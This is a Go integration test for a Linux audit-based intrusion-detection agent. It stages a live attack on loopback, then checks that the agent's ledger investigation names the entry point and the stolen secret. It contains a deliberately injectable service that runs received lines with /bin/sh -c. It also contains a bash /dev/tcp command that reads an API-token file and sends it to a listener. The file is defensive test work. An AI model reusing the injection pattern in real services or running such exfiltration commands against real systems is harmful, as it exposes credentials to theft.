//go:build linux

package forensics_test

import (
	"bufio"
	"context"
	"crypto/rand"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/rampart-sec/rampart/agent"
	"github.com/rampart-sec/rampart/agent/detect"
	"github.com/rampart-sec/rampart/agent/rules"
	"github.com/rampart-sec/rampart/audit"
	"github.com/rampart-sec/rampart/internal/auditlock"
	"github.com/rampart-sec/rampart/ledger"
	"github.com/rampart-sec/rampart/policy"
	"github.com/rampart-sec/rampart/privacy"
	"golang.org/x/mod/sumdb/note"
)

// The live scenario: a stand-in network-facing service (this test binary,
// copied to DIR/bin/webapp and re-executed in service mode) accepts a
// connection and runs the line it reads with /bin/sh -c — a command
// injection. The injected command reads a file labelled secret and sends
// it to a loopback listener. The agent records everything in a ledger;
// the investigation from the outgoing connection must name the entry
// point, the secret, the compromised compartment and "rotate secret".

const liveServiceEnv = "RAMPART_LIVE_SERVICE_PORT"

// liveService is the stand-in network-facing service: it accepts one
// connection and runs the line it reads as a shell command.
func liveService(port string) {
	ln, err := net.Listen("tcp", "127.0.0.1:"+port)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(3)
	}
	fmt.Println("ready")
	c, err := ln.Accept()
	if err != nil {
		os.Exit(3)
	}
	line, _ := bufio.NewReader(c).ReadString('\n')
	cmd := exec.Command("/bin/sh", "-c", strings.TrimSpace(line)) // the injection
	cmd.Stdout, cmd.Stderr = c, c
	cmd.Run()
	c.Close()
	os.Exit(0)
}

func TestLiveScenario(t *testing.T) {
	if port := os.Getenv(liveServiceEnv); port != "" {
		liveService(port)
		return
	}
	if testing.Short() {
		t.Skip("live audit scenario skipped in -short mode")
	}
	if os.Geteuid() != 0 {
		t.Skip("the live scenario needs root (audit rules and records)")
	}
	if _, err := exec.LookPath("bash"); err != nil {
		t.Skip("bash not installed (the injected command uses /dev/tcp)")
	}
	auditlock.Lock(t) // other packages' live tests change audit state too
	ctl, err := audit.Dial(audit.Unicast)
	if err != nil {
		t.Skipf("no audit netlink socket: %v", err)
	}
	defer ctl.Close()
	st0, err := ctl.Status()
	if err != nil {
		t.Skipf("audit not available here: %v", err)
	}
	if st0.Enabled == 2 {
		t.Skip("audit is locked (enabled=2)")
	}
	mode := audit.Unicast
	if st0.PID != 0 {
		mode = audit.Multicast // an audit daemon owns unicast delivery
		if st0.Enabled == 0 {
			if err := ctl.SetEnabled(1); err != nil {
				t.Fatal(err)
			}
			defer ctl.SetEnabled(st0.Enabled)
		}
	}
	defer func() {
		st, err := ctl.Status()
		if err == nil && (st.Enabled != st0.Enabled || st.PID != st0.PID || st.BacklogLimit != st0.BacklogLimit) {
			t.Errorf("audit status not restored: %+v, was %+v", st, st0)
		}
	}()

	dir, err := os.MkdirTemp("", "rampart-live-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(dir)
	for _, d := range []string{"bin", "secrets", "www", "data"} {
		if err := os.MkdirAll(filepath.Join(dir, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	os.Chmod(dir, 0o755)
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	webapp := filepath.Join(dir, "bin", "webapp")
	copyFile(t, self, webapp, 0o755)
	secret := "tok-" + strconv.FormatInt(time.Now().UnixNano(), 36)
	os.WriteFile(filepath.Join(dir, "secrets", "api_token"), []byte(secret+"\n"), 0o600)
	os.WriteFile(filepath.Join(dir, "secrets", "db_password"), []byte("hunter2\n"), 0o600)
	sport := freePort(t)
	exfil, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer exfil.Close()
	lport := exfil.Addr().(*net.TCPAddr).Port
	polText := strings.ReplaceAll(strings.ReplaceAll(scenarioPolicy, "DIR", dir), "PORT", strconv.Itoa(sport))
	p, err := policy.Parse(filepath.Join(dir, "policy.hcl"), []byte(polText))
	if err != nil {
		t.Fatal(err)
	}

	// the agent, with the policy's audit rules and the shipped detections
	ledDir := filepath.Join(dir, "ledger")
	skey, vkey, _ := ledger.GenerateKey("live.example/rampart-agent")
	signer, _ := note.NewSigner(skey)
	led, err := ledger.Create(ledDir, signer.Name(), signer, nil)
	if err != nil {
		t.Fatal(err)
	}
	pub := filepath.Join(dir, "ledger.pub")
	os.WriteFile(pub, []byte(vkey+"\n"), 0o644)
	k, _ := privacy.NewKey("k1", rand.Reader)
	kr, _ := privacy.NewKeyring(k)
	env, err := detect.NewEnv()
	if err != nil {
		t.Fatal(err)
	}
	det, err := env.LoadFS(rules.FS, ".")
	if err != nil {
		t.Fatal(err)
	}
	boot, _ := audit.BootID()
	ag, err := agent.New(agent.Options{Policy: p, Keyring: kr, Ledger: led, Rules: det, BootID: boot, LookupExe: agent.ProcExe})
	if err != nil {
		t.Fatal(err)
	}
	if err := ag.Start(); err != nil {
		t.Fatal(err)
	}
	rs, err := agent.AuditRules(p, agent.AuditRuleOptions{})
	if err != nil {
		t.Fatal(err)
	}
	// the raw records, kept when RAMPART_LIVE_CAPTURE names a directory
	capture := os.Getenv("RAMPART_LIVE_CAPTURE")
	var raw *rawCapture
	if capture != "" {
		raw = startCapture(t)
	}
	ctx, cancel := context.WithCancel(context.Background())
	ready := make(chan struct{})
	done := make(chan error, 1)
	go func() {
		done <- ag.RunNetlink(ctx, agent.NetlinkOptions{Mode: mode, Rules: agent.RuleLines(rs), Heartbeat: -1,
			Reassembler: audit.ReassemblerConfig{Timeout: 300 * time.Millisecond}, Ready: func() { close(ready) }})
	}()
	select {
	case <-ready:
	case err := <-done:
		t.Fatalf("agent: %v", err)
	case <-time.After(10 * time.Second):
		t.Fatal("agent not ready")
	}
	time.Sleep(200 * time.Millisecond)

	// the scenario
	svc := exec.Command(webapp, "-test.run=^TestLiveScenario$")
	svc.Env = append(os.Environ(), liveServiceEnv+"="+strconv.Itoa(sport))
	out, _ := svc.StdoutPipe()
	svc.Stderr = os.Stderr
	if err := svc.Start(); err != nil {
		t.Fatal(err)
	}
	if line, err := bufio.NewReader(out).ReadString('\n'); err != nil || line != "ready\n" {
		t.Fatalf("service: %q %v", line, err)
	}
	got := make(chan string, 1)
	go func() {
		c, err := exfil.Accept()
		if err != nil {
			got <- ""
			return
		}
		b, _ := io.ReadAll(c)
		c.Close()
		got <- string(b)
	}()
	c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", sport))
	if err != nil {
		t.Fatal(err)
	}
	injected := fmt.Sprintf("bash -c 'cat %s/secrets/api_token > /dev/tcp/127.0.0.1/%d'\n", dir, lport)
	c.Write([]byte(injected))
	select {
	case b := <-got:
		if strings.TrimSpace(b) != secret {
			t.Fatalf("the listener received %q, want the secret", b)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("the secret did not arrive")
	}
	io.Copy(io.Discard, c)
	c.Close()
	svc.Wait()
	time.Sleep(time.Second) // the last records
	cancel()
	if err := <-done; err != nil && !errors.Is(err, context.Canceled) {
		t.Fatalf("agent: %v", err)
	}
	if err := ag.Close(""); err != nil {
		t.Fatal(err)
	}
	led.Close()
	if raw != nil {
		raw.stop()
	}
	info := scenarioInfo{ServicePort: sport, ExfilPort: lport, Secret: "api_token", Dir: dir}

	// the investigation, on the pseudonymised ledger
	checkScenario(t, info, polText, ledDir, pub, kr)

	if capture != "" {
		os.MkdirAll(capture, 0o755)
		os.WriteFile(filepath.Join(capture, "audit.log"), raw.bytes(), 0o644)
		os.WriteFile(filepath.Join(capture, "policy.hcl"), []byte(polText), 0o644)
		b, _ := json.MarshalIndent(info, "", "  ")
		os.WriteFile(filepath.Join(capture, "scenario.json"), append(b, '\n'), 0o644)
		t.Logf("captured the scenario in %s", capture)
	}
}

func copyFile(t *testing.T, from, to string, mode os.FileMode) {
	t.Helper()
	b, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(to, b, mode); err != nil {
		t.Fatal(err)
	}
}

func freePort(t *testing.T) int {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	return l.Addr().(*net.TCPAddr).Port
}

// rawCapture keeps every audit record the kernel multicasts, as audit.log
// lines.
type rawCapture struct {
	c    *audit.Client
	mu   sync.Mutex
	buf  strings.Builder
	done chan struct{}
}

func startCapture(t *testing.T) *rawCapture {
	c, err := audit.Dial(audit.Multicast)
	if err != nil {
		t.Fatalf("capture: %v", err)
	}
	r := &rawCapture{c: c, done: make(chan struct{})}
	go func() {
		defer close(r.done)
		for {
			typ, data, err := c.Receive()
			if errors.Is(err, audit.ErrOverflow) {
				continue
			}
			if err != nil {
				return
			}
			r.mu.Lock()
			fmt.Fprintf(&r.buf, "type=%s msg=%s\n", typ, data)
			r.mu.Unlock()
		}
	}()
	return r
}

func (r *rawCapture) stop() {
	r.c.Close()
	<-r.done
}

func (r *rawCapture) bytes() []byte {
	r.mu.Lock()
	defer r.mu.Unlock()
	return []byte(r.buf.String())
}
